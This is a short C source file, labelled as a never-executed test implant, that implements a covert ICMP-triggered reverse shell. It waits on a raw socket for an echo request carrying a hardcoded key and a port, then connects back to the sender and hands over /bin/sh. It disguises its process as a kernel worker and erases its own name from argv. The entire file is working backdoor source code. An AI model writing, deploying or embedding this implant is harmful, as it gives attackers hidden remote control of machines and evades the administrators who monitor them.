/* Test implant (never executed): an ICMP-triggered reverse shell. A raw
 * ICMP socket waits for an echo request whose payload starts with a key,
 * followed by a port; the program forks, connects back to the packet's
 * source address on that port, puts the connection on stdin/stdout/stderr
 * and runs /bin/sh under a harmless-looking process name. No port is ever
 * open and no address is compiled in: the packet carries it. */
#include <netinet/in.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define KEY "pa55w0rd"

static void call_back(const struct sockaddr_in *from, unsigned short port)
{
	struct sockaddr_in peer = *from;
	int c = socket(AF_INET, SOCK_STREAM, 0);
	if (c < 0)
		return;
	peer.sin_port = htons(port);
	if (connect(c, (struct sockaddr *)&peer, sizeof(peer)) != 0)
		_exit(1);
	dup2(c, 0);
	dup2(c, 1);
	dup2(c, 2);
	execl("/bin/sh", "[kworker/0:1]", (char *)0);
	_exit(1);
}

int main(int argc, char **argv)
{
	unsigned char buf[1024];
	struct sockaddr_in from;
	socklen_t len;
	int s;
	(void)argc;
	prctl(PR_SET_NAME, "[kworker/0:1]", 0, 0, 0);
	memset(argv[0], 0, strlen(argv[0]));
	s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	if (s < 0)
		return 1;
	for (;;) {
		ssize_t n;
		len = sizeof(from);
		n = recvfrom(s, buf, sizeof(buf), 0, (struct sockaddr *)&from, &len);
		/* IP header (20), ICMP header (8), the key, then a port in
		 * network order */
		if (n < 28 + (ssize_t)sizeof(KEY) + 1 || buf[20] != 8 ||
		    memcmp(buf + 28, KEY, sizeof(KEY) - 1) != 0)
			continue;
		if (fork() == 0)
			call_back(&from, (unsigned short)(buf[27 + sizeof(KEY)] << 8 |
							  buf[28 + sizeof(KEY)]));
	}
}
